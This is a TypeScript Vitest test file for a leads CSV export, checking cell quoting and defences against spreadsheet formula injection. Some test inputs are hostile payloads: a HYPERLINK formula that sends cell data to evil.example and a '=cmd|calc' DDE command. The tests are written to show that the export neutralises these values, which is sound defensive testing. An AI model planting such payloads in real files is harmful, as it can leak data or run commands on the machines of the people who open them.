// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { leadsCsv } from '@/lib/leads/csv';
import type { Lead } from '@/lib/leads/lead';

const lead = (id: string, fields: Lead['fields']): Lead => ({
  id,
  formId: 'schedule-a-call',
  fields,
  pageUrl: 'http://localhost:3000/schedule-a-call?a=1,2',
  state: 'pending',
  createdAt: Date.UTC(2026, 10, 2, 9, 30),
  queuedAt: 0,
  attempts: 2,
  nextAttemptAt: 0,
  lastError: 'HTTP 503',
  reason: null,
  updatedAt: 0,
  attribution: null,
  privacyNoticeDate: null,
});

/** A row's cells as a spreadsheet that honours quotes reads them (rows without line breaks). */
const cellsOf = (line: string) =>
  [...line.matchAll(/"((?:[^"]|"")*)"/g)].map(([, text]) => text!.replaceAll('""', '"'));
/** Every line wholly made of quoted cells, one comma between each. */
const EVERY_CELL_QUOTED = /^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/;

describe('the leads CSV export', () => {
  it('has every field of every lead as a column, every cell quoted, quotes doubled and line breaks kept', () => {
    const csv = leadsCsv([
      lead('a', { Description: 'Two devs, "senior"\nstart May', LEADCF11: ['React', 'Go'] }),
      lead('b', { Company: 'Acme' }),
    ]);
    expect(csv).toBe(
      [
        '"id","form","state","created_at","page_url","attempts","reason","last_error","privacy_notice_date","Company","Description","LEADCF11"',
        '"a","schedule-a-call","pending","2026-11-02T09:30:00.000Z","http://localhost:3000/schedule-a-call?a=1,2","2","","HTTP 503","","","Two devs, ""senior""\nstart May","React; Go"',
        '"b","schedule-a-call","pending","2026-11-02T09:30:00.000Z","http://localhost:3000/schedule-a-call?a=1,2","2","","HTTP 503","","Acme","",""',
        '',
      ].join('\n'),
    );
  });

  it('keeps a value a spreadsheet would run as a formula as text', () => {
    const csv = leadsCsv([lead('a', { Company: '=HYPERLINK("http://evil.example")', Phone: '+15550001111' })]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
    expect(csv).toContain(`"'+15550001111"`);
  });

  it('keeps a formula after a separator as text too, for a reader in a locale that splits cells at `;`', () => {
    const csv = leadsCsv([
      {
        ...lead('a', { Description: 'note;=2+2', Company: 'Acme, @SUM(1)', Phone: 'x;\t=1', LEADCF11: ['a', '-1+1'] }),
        attribution: { first: {}, latest: { utm_campaign: 'spring;=1+1' } },
      },
    ]);
    const lines = csv.trimEnd().split('\n');
    // A tab is both: a trigger after the `;`, and a separator (a tab-separated reader) before the `=`.
    for (const line of lines) expect(line).toMatch(EVERY_CELL_QUOTED);
    expect(cellsOf(lines[1]!)).toEqual(
      expect.arrayContaining(["spring;'=1+1", "note;'=2+2", "Acme, '@SUM(1)", "x;'\t'=1", "a; '-1+1"]),
    );
    // A reader that ignores the quotes and splits at either separator still finds no cell that starts a formula.
    const pieces = lines.flatMap((line) => line.split(/[,;]/)).map((piece) => piece.replace(/^[" ]+/, ''));
    expect(pieces.filter((piece) => /^[=+\-@\t\r]/.test(piece))).toEqual([]);
  });

  it('keeps a field name a spreadsheet would run as a formula as text too (a journal from before unknown names were dropped)', () => {
    const name = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
    const [header] = leadsCsv([lead('a', { [name]: 'x' })]).split('\n');
    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Open"")"`);
    expect(header).not.toMatch(/(^|,)"?=/);
  });

  it('has a column for each part of the attribution any lead has, and the privacy notice’s date, escaped the same', () => {
    const csv = leadsCsv([
      {
        ...lead('a', { Company: 'Acme' }),
        privacyNoticeDate: '2025-01-02',
        attribution: {
          first: { landing_page: '/?utm_source=news,letter', utm_source: 'news,letter', gclid: '=cmd|calc' },
          latest: { utm_campaign: 'q1' },
        },
      },
      lead('b', { Company: 'Beta' }),
    ]);
    const [header, a, b] = csv.split('\n');
    expect(cellsOf(header!)).toEqual([
      ...['id', 'form', 'state', 'created_at', 'page_url', 'attempts', 'reason', 'last_error', 'privacy_notice_date'],
      ...['first_landing_page', 'first_utm_source', 'first_gclid', 'latest_utm_campaign', 'Company'],
    ]);
    expect(a).toMatch(/,"HTTP 503","2025-01-02","\/\?utm_source=news,letter","news,letter","'=cmd\|calc","q1","Acme"$/);
    expect(b).toMatch(/,"HTTP 503","","","","","","Beta"$/);
  });
});
